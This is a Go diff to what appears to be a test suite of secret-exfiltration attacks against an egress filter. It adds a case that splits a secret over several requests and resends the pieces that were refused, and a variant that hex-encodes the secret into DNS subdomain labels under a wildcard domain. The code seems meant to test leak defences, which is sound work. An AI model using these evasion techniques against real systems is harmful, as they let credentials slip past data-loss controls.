@@ -73,6 +73,9 @@ func leaksBy(id, how, source string, http2 bool, ways ...leak) Attack {
 		for i := range ms {
 			mark := markOf(whose, l.name, i+1, len(ms))
 			var err error
+			if ms[i].again {
+				s.send(&ms[i], "")
+			}
 			if http2 {
 				_, err = send2(c, e.Leak, &ms[i], mark)
 			} else {
@@ -388,6 +391,11 @@ func secrets() []Attack {
 			}
 			return out
 		}}),
+		leaks("split-again", "Spread it over requests, and send again each piece that is refused.", "generic", leak{"twice", func(v string) (out []message) {
+			// What passes is a piece that was refused before; where that is not seen,
+			// all of these are.
+			return []message{{body: "n=" + v[:12] + "&"}, {body: "n=" + v[12:24] + "&", again: true}, {body: "n=" + v[24:] + "&", again: true}}
+		}}),
 		leaks("split-places", "Spread it over the path of one request, a cookie of the next and a body of the third, out of order.", "Pipelock", leak{"places", func(v string) []message {
 			return []message{{method: "GET", target: "/v1/" + v[24:]}, {method: "GET", target: "/v1", head: []string{"Cookie: a=" + v[:12]}}, {body: "x=" + v[12:24] + "&"}}
 		}}),
@@ -406,7 +414,7 @@ func secrets() []Attack {
 				}
 				h := hex.EncodeToString([]byte(v))
 				var tries []try
-				for _, n := range []string{h[:60], strings.ToUpper(h[:60]), "x" + h[:40] + ".y." + h[30:70], lower32(v)[:50]} {
+				for _, n := range []string{h[:60], strings.ToUpper(h[:60]), "x" + h[:40] + ".y." + h[30:70], h[:30] + "." + h[30:60], lower32(v)[:50]} {
 					n += "." + e.Wild
 					tries = append(tries, try{n[:8], func() error {
 						// The question alone leaves nothing; the connection would.
